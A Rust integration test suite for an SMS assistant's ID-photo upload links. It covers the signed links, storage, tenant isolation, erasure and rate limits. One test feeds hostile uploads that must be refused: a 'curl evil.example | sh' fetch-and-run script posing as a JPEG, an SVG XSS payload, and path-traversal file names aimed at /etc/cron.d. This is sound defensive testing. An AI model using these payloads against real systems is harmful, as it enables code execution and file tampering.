//! ID photo uploads: the link texted to the applicant, the page, what is stored, what is refused, what
//! operators see, and erasure.

use chrono::{TimeDelta, Utc};
use reqwest::multipart::{Form, Part};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use smsagent_engine::uploads::UploadLinks;
use smsagent_store::PgPool;

use crate::helpers::{
    BOOTSTRAP_KEY, CONTACT, Options, PUBLIC_BASE_URL, TestApp, UPLOAD_LINK_SECRET, UPLOAD_MAX_BYTES, sid,
};

/// The start of a JPEG (JFIF) and some bytes after it: what the page judges a file by.
pub fn jpeg(size: usize) -> Vec<u8> {
    let mut bytes = b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00".to_vec();
    bytes.extend((0..size.saturating_sub(bytes.len())).map(|i| (i % 251) as u8));
    bytes
}

/// A 1×1 PNG.
pub const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82";

/// An app whose assistant asks for both sides, and a conversation with CONTACT.
pub async fn app_with_conversation(pool: PgPool) -> TestApp {
    let app = TestApp::spawn_with(pool, Options { workers: 0, ..Options::default() }).await;
    app.twilio_accepts().await;
    sqlx::query("UPDATE assistant SET id_photos = 2").execute(&app.pool).await.unwrap();
    app.text(&sid(), CONTACT, "Hi").await;
    app.worker.drain().await.unwrap();
    app
}

async fn conversation_id(app: &TestApp) -> uuid::Uuid {
    sqlx::query_scalar("SELECT id FROM conversation").fetch_one(&app.pool).await.unwrap()
}

/// Asks for a link as an operator; returns its address on the test app.
pub async fn operator_link(app: &TestApp) -> String {
    let id = conversation_id(app).await;
    let response = app
        .api(Method::POST, &format!("/api/v1/sms/conversation/{id}/upload-link"), BOOTSTRAP_KEY)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    let sent: Value = response.json().await.unwrap();
    local(sent["url"].as_str().unwrap(), app)
}

/// A link as texted (on PUBLIC_BASE_URL), on the test app's address instead.
fn local(link: &str, app: &TestApp) -> String {
    link.replace(PUBLIC_BASE_URL, &app.address)
}

fn photo(bytes: Vec<u8>, name: &str, side: &str) -> Form {
    let part = Part::bytes(bytes).file_name(name.to_owned()).mime_str("image/jpeg").unwrap();
    Form::new().text("side", side.to_owned()).part("file", part)
}

async fn upload(link: &str, form: Form) -> (StatusCode, String) {
    let response = reqwest::Client::new().post(link).multipart(form).send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

/// Files in UPLOAD_DIR, temporary ones included.
fn files(app: &TestApp) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(&app.upload_dir) else { return Vec::new() };
    entries.map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect()
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn a_completed_form_texts_the_link_and_both_sides_are_stored_as_sent(pool: PgPool) {
    let app = TestApp::spawn_with(pool, Options { workers: 0, ..Options::default() }).await;
    app.twilio_accepts().await;
    sqlx::query("UPDATE assistant SET id_photos = 2").execute(&app.pool).await.unwrap();
    for text in ["Hi, I'm Maria Garcia", "yes", "yes", "123 Main St, Springfield, IL 62701", "yes", "85k", "yes"] {
        app.text(&sid(), CONTACT, text).await;
        app.worker.drain().await.unwrap();
    }
    let sends = app.twilio_sends().await;
    let texted = sends.last().unwrap().get("Body").unwrap().to_owned();
    assert!(texted.starts_with("Please upload the front and back of your photo ID here: "), "{texted}");
    let link = texted.split_whitespace().find(|w| w.contains("/upload/")).unwrap();
    assert!(!link.contains("Maria") && !link.contains("555"), "the link carries nothing personal: {link}");
    let link = local(link, &app);

    let page = reqwest::get(&link).await.unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    assert_eq!(page.headers()["referrer-policy"], "no-referrer");
    let html = page.text().await.unwrap();
    assert!(
        html.contains(r#"<label class="file" for="photo">"#) && html.contains(r#"accept="image/*,application/pdf""#)
    );

    let front = jpeg(5000);
    let (status, html) = upload(&link, photo(front.clone(), "IMG_0001.jpg", "front")).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("We received the front of your ID"), "{html}");
    let (hash, kind, size, name): (Vec<u8>, String, i64, String) =
        sqlx::query_as("SELECT sha256, content_type, size_bytes, stored_name FROM id_upload")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!((hash, kind.as_str(), size), (Sha256::digest(&front).to_vec(), "image/jpeg", 5000));
    assert_eq!(std::fs::read(app.upload_dir.join(&name)).unwrap(), front, "the file is stored as sent");
    assert!(!name.contains("IMG"), "stored under a name of ours: {name}");

    app.worker.drain().await.unwrap();
    let receipt = app.twilio_sends().await.last().unwrap().get("Body").unwrap().to_owned();
    assert_eq!(
        receipt,
        "Thanks! We received the front of your ID. Please also upload the back of your ID with the same link."
    );

    // The same link again: the back, then a sharper front, which replaces the first as the current one.
    let (status, _) = upload(&link, photo(PNG.to_vec(), "back.png", "back")).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = upload(&link, photo(jpeg(7000), "IMG_0002.jpg", "front")).await;
    assert_eq!(status, StatusCode::OK);
    let id = conversation_id(&app).await;
    let listed: Value = app
        .api(Method::GET, &format!("/api/v1/sms/conversation/{id}/uploads"), BOOTSTRAP_KEY)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let uploads = listed["uploads"].as_array().unwrap();
    let summary: Vec<_> =
        uploads.iter().map(|u| (u["side"].clone(), u["content_type"].clone(), u["current"].clone())).collect();
    assert_eq!(
        summary,
        [
            (json!("front"), json!("image/jpeg"), json!(true)),
            (json!("back"), json!("image/png"), json!(true)),
            (json!("front"), json!("image/jpeg"), json!(false)),
        ]
    );
    assert_eq!(uploads[2]["sha256"], hex(&Sha256::digest(&front)));

    let download =
        app.api(Method::GET, &format!("/api/v1/uploads/{}", uploads[1]["id"].as_str().unwrap()), BOOTSTRAP_KEY);
    let download = download.send().await.unwrap();
    assert_eq!(download.status(), StatusCode::OK);
    assert_eq!(download.headers()["content-type"], "image/png");
    assert!(download.headers()["content-disposition"].to_str().unwrap().starts_with("attachment"));
    assert_eq!(download.bytes().await.unwrap().as_ref(), PNG);
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn a_contact_who_asks_for_the_link_gets_it(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    app.text(&sid(), CONTACT, "Send me the link").await;
    app.worker.drain().await.unwrap();
    let texted = app.twilio_sends().await.last().unwrap().get("Body").unwrap().to_owned();
    assert!(texted.contains(&format!("{PUBLIC_BASE_URL}/upload/")), "{texted}");
    assert_eq!(app.count("SELECT count(*) FROM sms_messages WHERE purpose = 'upload_link'").await, 1);

    // After STOP, not even an operator can send it.
    app.text(&sid(), CONTACT, "STOP").await;
    let id = conversation_id(&app).await;
    let (status, refused) =
        app.api_json(Method::POST, &format!("/api/v1/sms/conversation/{id}/upload-link"), BOOTSTRAP_KEY, None).await;
    assert_eq!((status, &refused["error"]["code"]), (StatusCode::UNPROCESSABLE_ENTITY, &json!("recipient_opted_out")));
    assert_eq!(app.count("SELECT count(*) FROM sms_messages WHERE purpose = 'upload_link'").await, 1);
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn refused_uploads_and_links_write_nothing(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    let link = operator_link(&app).await;
    let too_big = usize::try_from(UPLOAD_MAX_BYTES).unwrap() + 1;
    let cases = [
        (photo(jpeg(too_big), "big.jpg", "front"), StatusCode::PAYLOAD_TOO_LARGE, "too big"),
        (
            photo(b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(), "photo.jpg", "front"),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "a photo or PDF we can take",
        ),
        (
            photo(b"<svg onload=alert(1)>".to_vec(), "id.png", "front"),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "a photo or PDF we can take",
        ),
        (photo(jpeg(2000), "../../etc/cron.d/x.jpg", "front"), StatusCode::BAD_REQUEST, "Please rename the file"),
        (photo(jpeg(2000), "id.jpg", "../front"), StatusCode::BAD_REQUEST, "wrong with the upload"),
    ];
    for (form, status, says) in cases {
        let (got, html) = upload(&link, form).await;
        assert_eq!(got, status, "{says}: {html}");
        assert!(html.contains(says) && html.contains(r#"role="alert""#), "{html}");
    }

    let token = link.rsplit('/').next().unwrap();
    let mut forged = token.to_owned();
    let last = forged.pop().unwrap();
    forged.push(if last == 'A' { 'B' } else { 'A' });
    let id = conversation_id(&app).await;
    let signer = UploadLinks::new(UPLOAD_LINK_SECRET.to_owned().into(), TimeDelta::hours(24), &app.address);
    let (expired, _) = signer.link(id, Utc::now() - TimeDelta::hours(25));
    let other_secret = UploadLinks::new("not-our-secret".to_owned().into(), TimeDelta::hours(24), &app.address);
    let (foreign, _) = other_secret.link(id, Utc::now());
    for bad in
        [format!("{}/upload/{forged}", app.address), expired, foreign, format!("{}/upload/..%2F..%2Fetc", app.address)]
    {
        let page = reqwest::get(&bad).await.unwrap();
        assert_eq!(page.status(), StatusCode::FORBIDDEN, "{bad}");
        assert!(page.text().await.unwrap().contains("This link doesn't work"));
        let (status, _) = upload(&bad, photo(jpeg(2000), "id.jpg", "front")).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{bad}");
    }
    assert_eq!(app.count("SELECT count(*) FROM id_upload").await, 0);
    assert_eq!(files(&app), Vec::<String>::new(), "no file, not even a temporary one");
    assert_eq!(app.count("SELECT count(*) FROM sms_messages WHERE purpose = 'upload_receipt'").await, 0);
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn uploads_are_the_tenants_alone(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    let link = operator_link(&app).await;
    assert_eq!(upload(&link, photo(jpeg(3000), "id.jpg", "front")).await.0, StatusCode::OK);
    let id = conversation_id(&app).await;
    let upload_id: uuid::Uuid = sqlx::query_scalar("SELECT id FROM id_upload").fetch_one(&app.pool).await.unwrap();

    let (_, other_key) = app.tenant("Other").await;
    for (method, path) in [
        (Method::GET, format!("/api/v1/sms/conversation/{id}/uploads")),
        (Method::GET, format!("/api/v1/uploads/{upload_id}")),
        (Method::POST, format!("/api/v1/sms/conversation/{id}/upload-link")),
    ] {
        let theirs = app.api(method.clone(), &path, &other_key).send().await.unwrap();
        assert_eq!(theirs.status(), StatusCode::NOT_FOUND, "{path}");
        let nobody = app.request(method, &path).send().await.unwrap();
        assert_eq!(nobody.status(), StatusCode::UNAUTHORIZED, "{path}");
    }
    let bad = app.api(Method::GET, "/api/v1/uploads/not-an-id", BOOTSTRAP_KEY).send().await.unwrap();
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
    // Files are only ever served through the API: nothing under UPLOAD_DIR is reachable by name.
    let name: String = sqlx::query_scalar("SELECT stored_name FROM id_upload").fetch_one(&app.pool).await.unwrap();
    for path in [format!("/uploads/{name}"), format!("/upload/{name}"), format!("/{name}")] {
        let status = app.get(&path).await.status();
        assert!(status == StatusCode::NOT_FOUND || status == StatusCode::FORBIDDEN, "{path}: {status}");
    }
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn erasing_the_conversation_removes_its_files_and_kills_its_link(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    let link = operator_link(&app).await;
    assert_eq!(upload(&link, photo(jpeg(3000), "id.jpg", "front")).await.0, StatusCode::OK);
    assert_eq!(files(&app).len(), 1);

    let erased = app.api(Method::DELETE, "/api/conversations/%2B15551234567", BOOTSTRAP_KEY).send().await.unwrap();
    assert_eq!(erased.status(), StatusCode::OK);
    assert_eq!(erased.json::<Value>().await.unwrap()["deleted"]["uploads"], 1);
    assert_eq!(files(&app), Vec::<String>::new());
    assert_eq!(app.count("SELECT count(*) FROM id_upload").await, 0);

    assert_eq!(reqwest::get(&link).await.unwrap().status(), StatusCode::FORBIDDEN);
    assert_eq!(upload(&link, photo(jpeg(3000), "id.jpg", "front")).await.0, StatusCode::FORBIDDEN);
    assert_eq!(files(&app), Vec::<String>::new(), "a link used after erasure writes nothing");
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn an_applicant_uploads_from_a_phone_sized_browser(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    let link = operator_link(&app).await;
    let file = std::env::temp_dir().join(format!("smsagent-id-{}.png", uuid::Uuid::now_v7()));
    std::fs::write(&file, PNG).unwrap();
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let script = root.join("tests/browser/upload.mjs");
    assert!(
        root.join("tests/browser/node_modules/playwright-core").exists(),
        "playwright-core is not installed: run scripts/test (it runs npm ci in tests/browser)"
    );
    let shot = root.join("target/screenshots/upload-page.png");
    let run = tokio::process::Command::new("node")
        .arg(&script)
        .arg(&link)
        .arg(&file)
        .arg(&shot)
        .env("CHROMIUM", std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into()))
        .output()
        .await
        .expect("node runs (scripts/test installs it where missing)");
    let _ = std::fs::remove_file(&file);
    let said = String::from_utf8_lossy(&run.stdout);
    assert!(run.status.success(), "{said}\n{}", String::from_utf8_lossy(&run.stderr));
    assert!(said.contains("STATUS: Thanks! We received the front of your ID."), "{said}");
    assert!(shot.metadata().map(|m| m.len() > 1000).unwrap_or(false), "no screenshot at {}", shot.display());

    let (hash, kind): (Vec<u8>, String) =
        sqlx::query_as("SELECT sha256, content_type FROM id_upload").fetch_one(&app.pool).await.unwrap();
    assert_eq!((hash, kind.as_str()), (Sha256::digest(PNG).to_vec(), "image/png"));
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn thirty_uploads_at_once_keep_the_links_few_files_and_text_one_receipt(pool: PgPool) {
    use smsagent_domain::upload::MAX_FILES_PER_LINK;
    let app = app_with_conversation(pool).await;
    let link = operator_link(&app).await;
    app.worker.drain().await.unwrap();
    let texts_before = app.twilio_sends().await.len();

    let flood = (0..30).map(|n| upload(&link, photo(jpeg(2000 + n), "IMG.jpg", "front")));
    let answers = futures_util::future::join_all(flood).await;

    let kept = answers.iter().filter(|(status, _)| *status == StatusCode::OK).count();
    assert_eq!(kept as i64, MAX_FILES_PER_LINK, "a link takes a few files");
    for (status, html) in answers.iter().filter(|(status, _)| *status != StatusCode::OK) {
        assert_eq!(*status, StatusCode::TOO_MANY_REQUESTS);
        assert!(html.contains("as many photos as this link takes"), "{html}");
    }
    assert_eq!(app.count("SELECT count(*) FROM id_upload").await, MAX_FILES_PER_LINK);
    assert_eq!(files(&app).len() as i64, MAX_FILES_PER_LINK, "refused files are not kept: {:?}", files(&app));
    app.worker.drain().await.unwrap();
    assert_eq!(app.twilio_sends().await.len() - texts_before, 1, "one receipt for the side");
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn a_conversation_takes_a_bounded_number_of_files_across_links(pool: PgPool) {
    use smsagent_domain::upload::{MAX_FILES_PER_CONVERSATION, MAX_FILES_PER_LINK};
    let app = app_with_conversation(pool).await;
    let links = UploadLinks::new(UPLOAD_LINK_SECRET.to_owned().into(), TimeDelta::hours(24), PUBLIC_BASE_URL);
    let id = conversation_id(&app).await;
    let mut kept = 0;
    // Links made a second apart are links of their own.
    for n in 0..(MAX_FILES_PER_CONVERSATION / MAX_FILES_PER_LINK + 1) {
        let (link, _) = links.link(id, Utc::now() + TimeDelta::seconds(n));
        for _ in 0..MAX_FILES_PER_LINK {
            let (status, _) = upload(&local(&link, &app), photo(jpeg(3000), "IMG.jpg", "back")).await;
            kept += usize::from(status == StatusCode::OK);
        }
    }
    assert_eq!(kept as i64, MAX_FILES_PER_CONVERSATION);
    assert_eq!(app.count("SELECT count(*) FROM id_upload").await, MAX_FILES_PER_CONVERSATION);
}

#[sqlx::test(migrator = "smsagent_store::MIGRATOR")]
async fn an_operators_upload_link_keeps_to_the_contacts_rate_and_quiet_hours(pool: PgPool) {
    let app = app_with_conversation(pool).await;
    let id = conversation_id(&app).await;
    let path = format!("/api/v1/sms/conversation/{id}/upload-link");

    // The contact's text is days old: a link is a text the business starts, held to quiet hours.
    sqlx::query("UPDATE sms_messages SET created_at = created_at - interval '3 days'")
        .execute(&app.pool)
        .await
        .unwrap();
    let now = Utc::now();
    let (status, sent) = app.api_json(Method::POST, &path, BOOTSTRAP_KEY, None).await;
    assert_eq!(status, StatusCode::CREATED, "{sent}");
    let contact = smsagent_domain::PhoneNumber::parse(CONTACT).unwrap();
    match smsagent_domain::quiet_hours::next_allowed(&contact, now) {
        None => assert_eq!(sent["send_at"], Value::Null, "inside the window"),
        Some(at) => {
            let send_at: chrono::DateTime<Utc> = serde_json::from_value(sent["send_at"].clone()).unwrap();
            assert!((send_at - at).num_seconds().abs() < 60, "{send_at} against {at}");
        }
    }

    for _ in 1..10 {
        assert_eq!(app.api_json(Method::POST, &path, BOOTSTRAP_KEY, None).await.0, StatusCode::CREATED);
    }
    let limited = app.api(Method::POST, &path, BOOTSTRAP_KEY).send().await.unwrap();
    assert_eq!(limited.status(), StatusCode::TOO_MANY_REQUESTS, "the contact's ten texts a minute");
    assert!(limited.headers().contains_key("retry-after"));
}
